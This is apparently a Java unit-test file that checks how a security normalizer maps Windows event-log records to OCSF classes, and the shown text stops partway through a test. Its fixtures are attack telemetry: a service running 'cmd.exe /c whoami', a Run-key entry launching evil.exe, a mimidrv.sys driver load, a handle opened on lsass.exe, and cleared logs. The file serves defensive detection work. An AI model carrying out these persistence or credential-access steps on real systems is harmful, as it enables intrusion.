package io.socaas.events.ocsf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.socaas.events.IngestIds;
import io.socaas.events.JsonEvent;
import io.socaas.events.TenantId;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Windows events beyond logons and processes reach their OCSF classes: account, group and
 * privilege changes, scheduled tasks, services, registry, modules, drivers, pipes, log clears and
 * PowerShell. The events are real ones of the shared corpus (evtx-attack-samples: evtx-dump shape;
 * OTRF Security-Datasets: flat NXLog shape), shortened to the fields that matter.
 */
class WindowsEventClassesTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final OcsfNormalizer.Context CONTEXT = new OcsfNormalizer.Context(
            TenantId.of("acme"), IngestIds.derived("key1", "batch", 0), Instant.parse("2026-03-01T10:00:00Z"), "dc01");

    private final OcsfNormalizer normalizer = OcsfNormalizer.withShippedMappings();

    private JsonNode normalize(String json) throws Exception {
        return JSON.readTree(
                normalizer.normalize(JsonEvent.parse(json), CONTEXT).event().toJsonBytes());
    }

    /** An evtx-dump event of the channel with the given EventData. */
    private static String evtx(String channel, int eventId, String eventData) {
        return """
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":%d,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07.524202Z"}},"Channel":"%s",
                 "Computer":"PC01.example.corp"},"EventData":%s}}""".formatted(eventId, channel, eventData);
    }

    private static void assertClass(JsonNode r, int classUid, int activityId, String activityName) {
        assertThat(r.get("class_uid").asInt()).as(r.toString()).isEqualTo(classUid);
        assertThat(r.get("activity_id").asInt()).as(r.toString()).isEqualTo(activityId);
        assertThat(r.get("activity_name").asText()).isEqualTo(activityName);
        assertThat(r.get("type_uid").asLong()).isEqualTo(classUid * 100L + activityId);
    }

    @Test
    void theMessageWindowsRenderedIsTheRecordsMessageInEveryChannel() throws Exception {
        // NXLog's and Snare's JSON carry the rendered text as Message; Winlogbeat as message
        for (String channel : List.of("Security", "System", "Microsoft-Windows-Sysmon/Operational")) {
            JsonNode nxlog = normalize("""
                    {"EventTime":"2026-02-28 23:35:07","Hostname":"PC01","EventID":4625,"Channel":"%s",
                     "SourceName":"Microsoft-Windows-Security-Auditing","TargetUserName":"bob",
                     "Message":"An account failed to log on."}""".formatted(channel));
            assertThat(nxlog.get("message").asText()).as(channel).isEqualTo("An account failed to log on.");
            assertThat(nxlog.at("/unmapped/Message").asText()).isEqualTo("An account failed to log on.");
        }
        JsonNode winlogbeat = normalize("""
                {"@timestamp":"2026-02-28T23:35:07.524Z","message":"An account was successfully logged on.",
                 "winlog":{"channel":"Security","event_id":4624,"computer_name":"PC01",
                 "event_data":{"TargetUserName":"bob","LogonType":"3"}}}""");
        assertThat(winlogbeat.get("message").asText()).isEqualTo("An account was successfully logged on.");
        // an evtx dump has no rendered text: no message is made up
        assertThat(normalize(evtx("Security", 4625, "{\"TargetUserName\":\"bob\"}"))
                        .has("message"))
                .isFalse();
    }

    @Test
    void whyALogonFailedIsSaidInWordsNotOnlyAsWindowsCodes() throws Exception {
        // a wrong password (SubStatus) tells spraying from guessing user names (0xC0000064)
        JsonNode wrongPassword = normalize(evtx("Security", 4625, """
                {"TargetUserName":"bob","Status":"0xc000006d","SubStatus":"0xC000006A","FailureReason":"%%2313",
                 "LogonType":"3","IpAddress":"203.0.113.7"}"""));
        assertThat(wrongPassword.get("status_detail").asText())
                .isEqualTo("User name is correct but the password is wrong");
        assertThat(wrongPassword.get("status_code").asText()).isEqualTo("0xc000006d");
        JsonNode noSuchUser = normalize(evtx("Security", 4625, """
                {"TargetUserName":"adm1n","Status":"0xc000006d","SubStatus":"0xc0000064","FailureReason":"%%2313"}"""));
        assertThat(noSuchUser.get("status_detail").asText()).isEqualTo("User name does not exist");
        // without a known SubStatus: the failure reason's text, from its message table reference
        JsonNode lockedOut = normalize(evtx("Security", 4625, """
                {"TargetUserName":"carol","Status":"0xc0000234","SubStatus":"0x0","FailureReason":"%%2307"}"""));
        assertThat(lockedOut.get("status_detail").asText()).isEqualTo("Account locked out");
        // a code no lookup knows stays as the source gave it
        JsonNode unknown = normalize(evtx("Security", 4625, """
                {"TargetUserName":"dave","Status":"0xc0009999","SubStatus":"0xc0009998","FailureReason":"%%2399"}"""));
        assertThat(unknown.get("status_detail").asText()).isEqualTo("%%2399");
        // Kerberos pre-authentication (4771) and NTLM validation (4776) failures
        JsonNode kerberos = normalize(evtx("Security", 4771, """
                {"TargetUserName":"erin","IpAddress":"::ffff:10.0.0.8","Status":"0x18"}"""));
        assertThat(kerberos.get("status_detail").asText()).startsWith("Wrong password");
        JsonNode ntlm = normalize(evtx("Security", 4776, """
                {"TargetUserName":"frank","Workstation":"WS7","Status":"0xC0000234"}"""));
        assertThat(ntlm.get("status_detail").asText()).isEqualTo("Account locked out");
        assertThat(ntlm.get("status_id").asInt()).isEqualTo(2);
        JsonNode ntlmValid = normalize(evtx("Security", 4776, """
                {"TargetUserName":"frank","Workstation":"WS7","Status":"0x0"}"""));
        assertThat(ntlmValid.get("status_id").asInt()).isEqualTo(1);
        assertThat(ntlmValid.has("status_detail")).isFalse();
        // Kerberos tickets: granted (0x0) or refused with the reason, so a spray of wrong passwords shows
        JsonNode tgtRefused = normalize(evtx("Security", 4768, """
                {"TargetUserName":"gina","TargetDomainName":"CORP","IpAddress":"::ffff:10.0.0.9","Status":"0x18"}"""));
        assertThat(tgtRefused.get("status_id").asInt()).isEqualTo(2);
        assertThat(tgtRefused.get("status").asText()).isEqualTo("Failure");
        assertThat(tgtRefused.get("status_detail").asText()).startsWith("Wrong password");
        JsonNode tgtGranted = normalize(evtx("Security", 4768, """
                {"TargetUserName":"gina","TargetDomainName":"CORP","IpAddress":"::ffff:10.0.0.9","Status":"0x0"}"""));
        assertThat(tgtGranted.get("status_id").asInt()).isEqualTo(1);
        JsonNode serviceTicket = normalize(evtx("Security", 4769, """
                {"TargetUserName":"gina@CORP","ServiceName":"MSSQLSvc","Status":"0x7"}"""));
        assertThat(serviceTicket.get("status_id").asInt()).isEqualTo(2);
        assertThat(serviceTicket.get("status_detail").asText()).isEqualTo("Service not found in the Kerberos database");
    }

    @Test
    void aLookupWithoutItsSourceFieldOrValuesIsRefusedAtStart() {
        for (String lookup : List.of(
                "{\"values\":{\"0x1\":\"x\"}}",
                "{\"field\":\"Status\"}",
                "{\"field\":\"Status\",\"values\":{}}",
                "{\"field\":\"Status\",\"values\":{\"0x1\":{\"nested\":true}}}",
                "{\"field\":\"list[key\",\"values\":{\"0x1\":\"x\"}}")) {
            String file = """
                    {"name":"bad","product":{"name":"X"},"match":{"a":"1"},
                     "events":[{"when":{"a":"1"},"class_uid":3002,"activity_id":1,"lookups":{"status_detail":%s}}]}""".formatted(lookup);
            assertThatThrownBy(() -> OcsfMappings.parse(Map.of("bad.json", file)))
                    .as(lookup)
                    .isInstanceOf(InvalidMappingException.class)
                    .hasMessageContaining("bad.json: events[0].lookups.status_detail");
        }
        // and a lookup of an attribute the class does not have
        String unknownAttribute = """
                {"name":"bad","product":{"name":"X"},"match":{"a":"1"},
                 "events":[{"when":{"a":"1"},"class_uid":3002,"activity_id":1,
                   "lookups":{"no_such_attribute":{"field":"Status","values":{"0x1":"x"}}}}]}""";
        assertThatThrownBy(() -> OcsfMappings.parse(Map.of("bad.json", unknownAttribute)))
                .isInstanceOf(InvalidMappingException.class)
                .hasMessageContaining("no_such_attribute");
    }

    @Test
    void userAccountChangesAreAccountChangeWithTheirActivity() throws Exception {
        String target = """
                {"TargetUserName":"DC012$","TargetDomainName":"3B","TargetSid":"S-1-5-21-308926384-506822093-3341789130-220105",
                 "SubjectUserSid":"S-1-5-21-308926384-506822093-3341789130-101606","SubjectUserName":"lgrove",
                 "SubjectDomainName":"3B","SubjectLogonId":"0x738ae4"}""";
        record Case(int eventId, int activityId, String name) {}
        for (Case c : List.of(
                new Case(4720, 1, "Create"),
                new Case(4722, 2, "Enable"),
                new Case(4723, 3, "Password Change"),
                new Case(4724, 4, "Password Reset"),
                new Case(4725, 5, "Disable"),
                new Case(4726, 6, "Delete"),
                new Case(4767, 12, "Unlock"),
                new Case(4738, 99, "Other"))) {
            JsonNode r = normalize(evtx("Security", c.eventId(), target));
            assertClass(r, 3001, c.activityId(), c.name());
            assertThat(r.get("category_uid").asInt()).isEqualTo(3);
            assertThat(r.at("/user/name").asText()).isEqualTo("DC012$");
            assertThat(r.at("/user/domain").asText()).isEqualTo("3B");
            assertThat(r.at("/user/uid").asText()).isEqualTo("S-1-5-21-308926384-506822093-3341789130-220105");
            assertThat(r.at("/actor/user/name").asText()).isEqualTo("lgrove");
            assertThat(r.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");
        }

        // a lockout's "domain" is the computer the bad passwords came from
        JsonNode locked = normalize("""
                {"Channel":"Security","EventID":4740,"Hostname":"DC1","TargetUserName":"pgustavo","TargetDomainName":"WORKSTATION5",
                 "TargetSid":"S-1-5-21-4228717743-1032521047-1810997296-1104","SubjectUserName":"DC1$","SubjectDomainName":"THESHIRE"}""");
        assertClass(locked, 3001, 9, "Lock");
        assertThat(locked.at("/user/name").asText()).isEqualTo("pgustavo");
        assertThat(locked.at("/src_endpoint/hostname").asText()).isEqualTo("WORKSTATION5");
        assertThat(locked.at("/user").has("domain")).isFalse();
    }

    @Test
    void groupMembershipChangesAreGroupManagement() throws Exception {
        JsonNode added = normalize(evtx("Security", 4732, """
                {"MemberName":"-","MemberSid":"S-1-5-21-1587066498-1489273250-1035260531-1106","TargetUserName":"Administrators",
                 "TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544","SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-500",
                 "SubjectUserName":"Administrator","SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x17e2d2","PrivilegeList":"-"}"""));
        assertClass(added, 3006, 3, "Add User");
        assertThat(added.at("/group/name").asText()).isEqualTo("Administrators");
        assertThat(added.at("/group/uid").asText()).isEqualTo("S-1-5-32-544");
        assertThat(added.at("/user/uid").asText()).isEqualTo("S-1-5-21-1587066498-1489273250-1035260531-1106");
        assertThat(added.at("/user").has("name")).as("'-' is no name").isFalse();
        assertThat(added.at("/actor/user/name").asText()).isEqualTo("Administrator");

        String group = """
                {"Channel":"Security","EventID":%d,"TargetUserName":"Backup Operators","TargetDomainName":"Builtin",
                 "TargetSid":"S-1-5-32-551","MemberSid":"S-1-5-21-1-2-3-1104","SubjectUserName":"admin01"}""";
        assertClass(normalize(group.formatted(4728)), 3006, 3, "Add User");
        assertClass(normalize(group.formatted(4733)), 3006, 4, "Remove User");
        assertClass(normalize(group.formatted(4731)), 3006, 6, "Create");
        assertClass(normalize(group.formatted(4758)), 3006, 5, "Delete");
        assertClass(normalize(group.formatted(4735)), 3006, 99, "Other");

        // enumerating a group's members reads it
        JsonNode enumerated = normalize("""
                {"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","Hostname":"Pedro01","TimeCreated":"2026-02-28T07:22:21.929Z",
                 "EventID":4799,"TargetUserName":"Administrators","TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544",
                 "SubjectUserSid":"S-1-5-18","SubjectUserName":"PEDRO01$","SubjectDomainName":"WORKGROUP","SubjectLogonId":"0x3e7",
                 "CallerProcessId":"0x1cc4","CallerProcessName":"C:\\\\Windows\\\\System32\\\\consent.exe"}""");
        assertClass(enumerated, 3004, 2, "Read");
        assertThat(enumerated.at("/entity/type_id").asInt()).isEqualTo(3);
        assertThat(enumerated.at("/entity/group/name").asText()).isEqualTo("Administrators");
        assertThat(enumerated.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\consent.exe");
        assertThat(enumerated.at("/actor/process/pid").asInt()).isEqualTo(0x1cc4);
    }

    @Test
    void specialPrivilegesAtLogonAreAuthorizeSessionWithThePrivilegeList() throws Exception {
        JsonNode r = normalize(evtx("Security", 4672, """
                {"SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-1108","SubjectUserName":"admin01",
                 "SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x14871d",
                 "PrivilegeList":"SeSecurityPrivilege\\n\\t\\t\\tSeBackupPrivilege\\n\\t\\t\\tSeDebugPrivilege"}"""));
        assertClass(r, 3003, 1, "Assign Privileges");
        assertThat(r.at("/user/name").asText()).isEqualTo("admin01");
        assertThat(r.at("/session/uid").asText()).isEqualTo("0x14871d");
        assertThat(r.get("privileges").isArray()).isTrue();
        assertThat(r.get("privileges").toString())
                .isEqualTo("[\"SeSecurityPrivilege\",\"SeBackupPrivilege\",\"SeDebugPrivilege\"]");
    }

    @Test
    void scheduledTasksAreScheduledJobActivity() throws Exception {
        String task = """
                {"SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-500","SubjectUserName":"Administrator",
                 "SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x17e2d2","TaskName":"\\\\CYAlyNSS",
                 "TaskContent":"<?xml version=\\"1.0\\" encoding=\\"UTF-16\\"?><Task version=\\"1.2\\"/>"}""";
        JsonNode created = normalize(evtx("Security", 4698, task));
        assertClass(created, 1006, 1, "Create");
        assertThat(created.at("/job/name").asText()).isEqualTo("\\CYAlyNSS");
        assertThat(created.at("/actor/user/name").asText()).isEqualTo("Administrator");
        assertClass(normalize(evtx("Security", 4699, task)), 1006, 3, "Delete");
        assertClass(normalize(evtx("Security", 4700, task)), 1006, 4, "Enable");
        assertClass(normalize(evtx("Security", 4701, task)), 1006, 5, "Disable");
        assertClass(normalize(evtx("Security", 4702, task)), 1006, 2, "Update");
    }

    @Test
    void taskSchedulerOperationalEventsAreScheduledJobActivity() throws Exception {
        String channel = "Microsoft-Windows-TaskScheduler/Operational";
        JsonNode registered = normalize("""
                {"Channel":"%s","EventID":"106","Hostname":"WORKSTATION5.theshire.local",
                 "TimeCreated":"2026-03-01T09:15:45.852Z","TaskName":"\\\\MordorSchtask","UserContext":"THESHIRE\\\\pgustavo"}""".formatted(channel));
        assertClass(registered, 1006, 1, "Create");
        assertThat(registered.at("/job/name").asText()).isEqualTo("\\MordorSchtask");
        assertThat(registered.at("/actor/user/name").asText()).isEqualTo("THESHIRE\\pgustavo");
        assertThat(registered.get("time").asLong())
                .isEqualTo(Instant.parse("2026-03-01T09:15:45.852Z").toEpochMilli());
        String task = "{\"Channel\":\"%s\",\"EventID\":\"%s\",\"TaskName\":\"\\\\Updater\",\"UserName\":\"S-1-5-18\","
                + "\"ActionName\":\"C:\\\\Users\\\\Public\\\\u.exe\",\"Path\":\"taskhostw.exe\",\"ResultCode\":\"2147942402\"}";
        assertClass(normalize(task.formatted(channel, "140")), 1006, 2, "Update");
        assertClass(normalize(task.formatted(channel, "141")), 1006, 3, "Delete");
        assertClass(normalize(task.formatted(channel, "142")), 1006, 5, "Disable");
        JsonNode started = normalize(task.formatted(channel, "200"));
        assertClass(started, 1006, 6, "Start");
        assertThat(started.at("/job/cmd_line").asText()).isEqualTo("taskhostw.exe");
        assertClass(normalize(task.formatted(channel, "129")), 1006, 6, "Start");
        JsonNode completed = normalize(task.formatted(channel, "201"));
        assertClass(completed, 1006, 99, "Other");
        assertThat(completed.get("status_code").asText()).isEqualTo("2147942402");
        // another event of the channel (the service started) is not a task's
        assertThat(normalize(task.formatted(channel, "400")).get("class_uid").asInt())
                .isZero();
    }

    @Test
    void permissionChangesOnFilesAndKeysAreSetSecurity() throws Exception {
        String change = """
                {"SubjectUserName":"admin01","SubjectDomainName":"EXAMPLE","ObjectServer":"Security","ObjectType":"%s",
                 "ObjectName":"%s","HandleId":"0x398","OldSd":"D:(A;;GA;;;SY)","NewSd":"D:(A;;GA;;;SY)(A;;GA;;;WD)",
                 "ProcessId":"0x2dc","ProcessName":"C:\\\\Windows\\\\System32\\\\icacls.exe"}""";
        JsonNode file = normalize(evtx("Security", 4670, change.formatted("File", "C:\\\\Finance\\\\payroll.xlsx")));
        assertClass(file, 1001, 7, "Set Security");
        assertThat(file.at("/file/path").asText()).isEqualTo("C:\\Finance\\payroll.xlsx");
        assertThat(file.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\icacls.exe");
        assertThat(file.at("/unmapped/Event/EventData/NewSd").asText()).endsWith("(A;;GA;;;WD)");
        JsonNode key =
                normalize(evtx("Security", 4670, change.formatted("Key", "\\\\REGISTRY\\\\MACHINE\\\\SOFTWARE\\\\X")));
        assertClass(key, 201001, 6, "Set Security");
        assertThat(key.at("/reg_key/path").asText()).isEqualTo("\\REGISTRY\\MACHINE\\SOFTWARE\\X");
        // a token's permissions: no file or key class
        assertThat(normalize(evtx("Security", 4670, change.formatted("Token", "-")))
                        .get("class_uid")
                        .asInt())
                .isNotIn(1001, 201001);
    }

    @Test
    void installedServicesAreWindowsServiceActivityFromSecurityAndSystem() throws Exception {
        JsonNode security = normalize("""
                {"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","Hostname":"WORKSTATION5",
                 "TimeCreated":"2026-02-28T09:07:41.219Z","EventID":4697,"SubjectUserName":"APT-Simulator",
                 "SubjectDomainName":"WORKSTATION5","SubjectLogonId":"0x3719fb","ServiceName":"tbbd05",
                 "ServiceFileName":"%COMSPEC% echo /c b6a1458f396 > \\\\\\\\.\\\\pipe\\\\334485","ServiceType":"0x10",
                 "ServiceStartType":"3","ServiceAccount":"LocalSystem"}""");
        assertClass(security, 201004, 1, "Create");
        assertThat(security.get("category_uid").asInt()).isEqualTo(1);
        assertThat(security.at("/win_service/name").asText()).isEqualTo("tbbd05");
        assertThat(security.at("/win_service/cmd_line").asText())
                .isEqualTo("%COMSPEC% echo /c b6a1458f396 > \\\\.\\pipe\\334485");
        assertThat(security.at("/win_service/service_start_name").asText()).isEqualTo("LocalSystem");
        assertThat(security.at("/actor/user/name").asText()).isEqualTo("APT-Simulator");

        JsonNode system = normalize("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager"}},
                 "EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Channel":"System","Computer":"PC01.example.corp",
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T12:34:07.124Z"}}},
                 "EventData":{"ServiceName":"spoolsv","ImagePath":"cmd.exe /c whoami","ServiceType":"user mode service",
                 "StartType":"demand start","AccountName":"LocalSystem"}}}""");
        assertClass(system, 201004, 1, "Create");
        assertThat(system.at("/win_service/name").asText()).isEqualTo("spoolsv");
        assertThat(system.at("/win_service/cmd_line").asText()).isEqualTo("cmd.exe /c whoami");
        assertThat(system.at("/win_service/service_start_type").asText()).isEqualTo("demand start");
        assertThat(system.at("/metadata/log_name").asText()).isEqualTo("System");
    }

    @Test
    void clearedEventLogsAreEventLogActivityClear() throws Exception {
        JsonNode security = normalize("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07.524202Z"}},"Channel":"Security",
                 "Computer":"PC01.example.corp"},"UserData":{"LogFileCleared":{
                 "SubjectUserSid":"S-1-5-21-1587066498-1489273250-1035260531-1106","SubjectUserName":"user01",
                 "SubjectDomainName":"EXAMPLE","SubjectLogonId":"0x17dad"}}}}""");
        assertClass(security, 1008, 1, "Clear");
        assertThat(security.get("log_name").asText()).isEqualTo("Security");
        assertThat(security.at("/actor/user/name").asText()).isEqualTo("user01");

        JsonNode systemEvtx = normalize("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":104,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:35:07Z"}},"Channel":"System","Computer":"PC01"},
                 "UserData":{"LogFileCleared":{"SubjectUserName":"user01","SubjectDomainName":"EXAMPLE",
                 "Channel":"Microsoft-Windows-Sysmon/Operational","BackupPath":""}}}}""");
        assertClass(systemEvtx, 1008, 1, "Clear");
        assertThat(systemEvtx.get("log_name").asText()).isEqualTo("Microsoft-Windows-Sysmon/Operational");
        assertThat(systemEvtx.at("/actor/user/name").asText()).isEqualTo("user01");

        JsonNode systemFlat = normalize("""
                {"Message":"The System log file was cleared.","EventID":104,"SourceName":"Microsoft-Windows-Eventlog",
                 "TimeCreated":"2026-02-28T03:52:01.767Z","Hostname":"WORKSTATION5","Channel":"System"}""");
        assertClass(systemFlat, 1008, 1, "Clear");
        assertThat(systemFlat.get("log_name").asText()).isEqualTo("System");
        assertThat(systemFlat.at("/device/hostname").asText()).isEqualTo("WORKSTATION5");
    }

    @Test
    void sysmonRegistryEventsAreRegistryKeyAndValueActivity() throws Exception {
        String sysmon = "Microsoft-Windows-Sysmon/Operational";
        JsonNode set = normalize(evtx(sysmon, 13, """
                {"RuleName":"T1060,RunKey","EventType":"SetValue","UtcTime":"2026-02-28 00:02:04.319","ProcessGuid":"{365ABB72-2D9F-5C90-0000-0010F4A60F00}",
                 "ProcessId":"3640","Image":"C:\\\\Windows\\\\system32\\\\reg.exe",
                 "TargetObject":"HKU\\\\S-1-5-21-1-2-3-1106\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\evil",
                 "Details":"C:\\\\Users\\\\Public\\\\evil.exe"}"""));
        assertClass(set, 201002, 2, "Set");
        assertThat(set.at("/reg_value/path").asText())
                .isEqualTo("HKU\\S-1-5-21-1-2-3-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
        assertThat(set.at("/reg_value/name").asText()).isEqualTo("evil");
        assertThat(set.at("/reg_value/data").asText()).isEqualTo("C:\\Users\\Public\\evil.exe");
        assertThat(set.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\system32\\reg.exe");
        assertThat(set.at("/actor/process/pid").asInt()).isEqualTo(3640);
        // Sigma reads the source's own names
        assertThat(set.at("/unmapped/Event/EventData/TargetObject").asText()).endsWith("\\Run\\evil");

        String object = """
                {"EventType":"%s","UtcTime":"2026-02-28 09:12:00.1","ProcessGuid":"{365ABB72-1D9F-5C90-0000-0010A4E60E00}","ProcessId":"1408",
                 "Image":"C:\\\\Windows\\\\regedit.exe","TargetObject":"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\evil"}""";
        JsonNode created = normalize(evtx(sysmon, 12, object.formatted("CreateKey")));
        assertClass(created, 201001, 1, "Create");
        assertThat(created.at("/reg_key/path").asText()).isEqualTo("HKLM\\System\\CurrentControlSet\\Services\\evil");
        assertClass(normalize(evtx(sysmon, 12, object.formatted("DeleteKey"))), 201001, 4, "Delete");
        JsonNode valueDeleted = normalize(evtx(sysmon, 12, object.formatted("DeleteValue")));
        assertClass(valueDeleted, 201002, 4, "Delete");
        assertThat(valueDeleted.at("/reg_value/name").asText()).isEqualTo("evil");

        // NXLog replaces EventType with its own; the message text still says which
        JsonNode nxlog = normalize("""
                {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12,"Hostname":"IT001.shire.com","EventType":"INFO",
                 "Message":"Registry object added or deleted:\\r\\nRuleName: \\r\\nEventType: DeleteKey\\r\\nUtcTime: 2019-12-25 04:52:00.957",
                 "Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                 "TargetObject":"HKU\\\\S-1-5-21-1-2-3-1104\\\\Software\\\\Classes\\\\ms-settings"}""");
        assertClass(nxlog, 201001, 4, "Delete");
        assertThat(nxlog.at("/reg_key/path").asText())
                .isEqualTo("HKU\\S-1-5-21-1-2-3-1104\\Software\\Classes\\ms-settings");
        JsonNode nxlogValue = normalize("""
                {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12,"Hostname":"IT001.shire.com",
                 "Message":"Registry object added or deleted:\\r\\nRuleName: \\r\\nEventType: DeleteValue\\r\\nUtcTime: 2019-12-25 04:52:00.957\\r\\nProcessId: 716\\r\\nImage: C:\\\\Windows\\\\regedit.exe\\r\\nTargetObject: HKLM\\\\Software\\\\Run\\\\evil",
                 "Image":"C:\\\\Windows\\\\regedit.exe","TargetObject":"HKLM\\\\Software\\\\Run\\\\evil"}""");
        assertClass(nxlogValue, 201002, 4, "Delete");
        assertThat(nxlogValue.at("/reg_value/path").asText()).isEqualTo("HKLM\\Software\\Run");
        assertThat(nxlogValue.at("/reg_value/name").asText()).isEqualTo("evil");

        JsonNode renamed = normalize(evtx(sysmon, 14, """
                {"EventType":"RenameKey","ProcessId":"1408","Image":"C:\\\\Windows\\\\regedit.exe",
                 "TargetObject":"HKLM\\\\Software\\\\Old","NewName":"HKLM\\\\Software\\\\New"}"""));
        assertClass(renamed, 201001, 5, "Rename");
        assertThat(renamed.at("/reg_key/path").asText()).isEqualTo("HKLM\\Software\\New");
        assertThat(renamed.at("/prev_reg_key/path").asText()).isEqualTo("HKLM\\Software\\Old");
    }

    @Test
    void securityRegistryAuditingIsRegistryActivity() throws Exception {
        JsonNode read = normalize(evtx("Security", 4663, """
                {"SubjectUserSid":"S-1-5-19","SubjectUserName":"LOCAL SERVICE","SubjectDomainName":"NT AUTHORITY","SubjectLogonId":"0x3e5",
                 "ObjectServer":"Security","ObjectType":"Key","ObjectName":"\\\\REGISTRY\\\\MACHINE\\\\SYSTEM\\\\ControlSet001\\\\Control\\\\Lsa\\\\FipsAlgorithmPolicy",
                 "HandleId":"0x468","AccessList":"%%4432","AccessMask":"0x1","ProcessId":"0x5a8","ProcessName":"C:\\\\Windows\\\\System32\\\\svchost.exe"}"""));
        assertClass(read, 201001, 2, "Read");
        assertThat(read.at("/reg_key/path").asText()).endsWith("\\Lsa\\FipsAlgorithmPolicy");
        assertThat(read.get("access_mask").asInt()).isEqualTo(1);
        assertThat(read.at("/actor/process/pid").asInt()).isEqualTo(0x5a8);

        JsonNode modified = normalize("""
                {"Channel":"Security","EventID":4657,"Hostname":"WORKSTATION5","SubjectUserName":"wardog",
                 "ObjectName":"\\\\REGISTRY\\\\MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
                 "ObjectValueName":"Updater","HandleId":"0x1b4","OperationType":"%%1905","OldValueType":"%%1873",
                 "OldValue":"C:\\\\old.exe","NewValueType":"%%1873","NewValue":"C:\\\\new.exe","ProcessId":"0x1a8c",
                 "ProcessName":"C:\\\\Windows\\\\regedit.exe"}""");
        assertClass(modified, 201002, 3, "Modify");
        assertThat(modified.at("/reg_value/name").asText()).isEqualTo("Updater");
        assertThat(modified.at("/reg_value/data").asText()).isEqualTo("C:\\new.exe");
        assertThat(modified.at("/prev_reg_value/data").asText()).isEqualTo("C:\\old.exe");

        JsonNode lsass = normalize(evtx("Security", 4656, """
                {"SubjectUserName":"IEUser","ObjectServer":"Security","ObjectType":"Process",
                 "ObjectName":"\\\\Device\\\\HarddiskVolume1\\\\Windows\\\\System32\\\\lsass.exe","HandleId":"0x558",
                 "AccessMask":"0x1f3fff","ProcessId":"0x1688","ProcessName":"C:\\\\Windows\\\\System32\\\\cscript.exe"}"""));
        assertClass(lsass, 1007, 3, "Open");
        assertThat(lsass.at("/process/file/path").asText()).endsWith("\\lsass.exe");
        assertThat(lsass.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\cscript.exe");
    }

    @Test
    void sysmonModulesDriversPipesAndRawReadsReachTheirClasses() throws Exception {
        String sysmon = "Microsoft-Windows-Sysmon/Operational";
        JsonNode module = normalize(evtx(sysmon, 7, """
                {"UtcTime":"2026-02-28 15:12:25.482","ProcessGuid":"{365ABB72-3D4F-5C8F-0000-0010C6A81400}","ProcessId":"2196",
                 "Image":"C:\\\\Windows\\\\System32\\\\rundll32.exe","ImageLoaded":"C:\\\\Windows\\\\System32\\\\samlib.dll",
                 "FileVersion":"10.0.17763.1","Description":"SAM Library DLL","Product":"Microsoft® Windows® Operating System",
                 "Company":"Microsoft Corporation","OriginalFileName":"samlib.dll",
                 "Hashes":"SHA256=6B2D8D1E1B2A2F3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4","Signed":"true",
                 "Signature":"Microsoft Windows","SignatureStatus":"Valid"}"""));
        assertClass(module, 1005, 1, "Load");
        assertThat(module.at("/module/file/path").asText()).isEqualTo("C:\\Windows\\System32\\samlib.dll");
        assertThat(module.at("/module/file/company_name").asText()).isEqualTo("Microsoft Corporation");
        assertThat(module.at("/module/file/hashes/0/algorithm_id").asInt()).isEqualTo(3);
        assertThat(module.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\rundll32.exe");
        assertThat(module.at("/actor/process/uid").asText()).isEqualTo("{365ABB72-3D4F-5C8F-0000-0010C6A81400}");

        JsonNode driver = normalize(evtx(sysmon, 6, """
                {"UtcTime":"2026-02-28 15:12:25.482","ImageLoaded":"C:\\\\Windows\\\\Temp\\\\mimidrv.sys",
                 "Hashes":"SHA1=E4E6E7B3CA0D35A1D7E3E2B3E7B4F1D5A2C3B4D5","Signed":"true","Signature":"Benjamin Delpy","SignatureStatus":"Expired"}"""));
        assertClass(driver, 1002, 1, "Load");
        assertThat(driver.at("/driver/file/path").asText()).isEqualTo("C:\\Windows\\Temp\\mimidrv.sys");

        JsonNode pipe = normalize("""
                {"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":17,"Hostname":"WORKSTATION5","UtcTime":"2026-02-28 03:52:01.767",
                 "EventType":"CreatePipe","ProcessGuid":"{39e4a257-5d5a-5f2a-4c02-000000000600}","ProcessId":"5764",
                 "PipeName":"\\\\MSSE-1234-server","Image":"C:\\\\Users\\\\wardog\\\\beacon.exe"}""");
        assertClass(pipe, 1001, 1, "Create");
